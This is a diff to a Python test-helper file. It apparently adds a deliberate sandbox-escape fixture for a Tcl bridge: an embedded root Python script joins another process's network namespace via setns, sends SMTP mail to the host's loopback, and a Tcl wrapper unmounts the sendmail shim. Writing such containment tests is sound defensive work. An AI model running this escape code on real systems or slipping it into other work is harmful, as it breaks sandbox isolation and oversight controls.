@@ -102,3 +102,41 @@ def tclbridge(*args: str, cwd: Path, env: dict[str, str] | None = None,
 
 def numbered(directory: Path) -> list[str]:
     return sorted(p.name for p in directory.iterdir()) if directory.is_dir() else []
+
+
+# A root script that sets out to leave: join the network namespace of any
+# process outside (as `nsenter --net=/proc/N/ns/net` would), then send to
+# the host's loopback; and take the sendmail shim away.
+NETNS_ESCAPE = r"""
+import ctypes, glob, os, smtplib, sys
+libc = ctypes.CDLL(None, use_errno=True)
+mine = os.readlink("/proc/self/ns/net")
+for link in glob.glob("/proc/[0-9]*/ns/net"):
+    try:
+        if os.readlink(link) == mine:
+            continue
+        fd = os.open(link, os.O_RDONLY)
+    except OSError:
+        continue
+    if libc.setns(fd, 0x40000000) == 0:
+        try:
+            with smtplib.SMTP("127.0.0.1", int(sys.argv[1]), timeout=5) as s:
+                s.sendmail("a@example.com", ["b@example.com"], "Subject: out\n\nout\n")
+            print("delivered via " + link)
+        except OSError as exc:
+            print("joined but failed: %s" % exc)
+        sys.exit(0)
+print("blocked")
+"""
+
+DELIBERATE_ESCAPE = r"""
+puts "umount: [catch {exec umount /usr/sbin/sendmail}]"
+puts "escape: [exec @PYTHON@ netns_escape.py [lindex $argv 0]]"
+"""
+
+
+def write_deliberate_escape(directory: Path) -> Path:
+    (directory / "netns_escape.py").write_text(NETNS_ESCAPE)
+    script = directory / "deliberate.tcl"
+    script.write_text(DELIBERATE_ESCAPE.replace("@PYTHON@", sys.executable))
+    return script
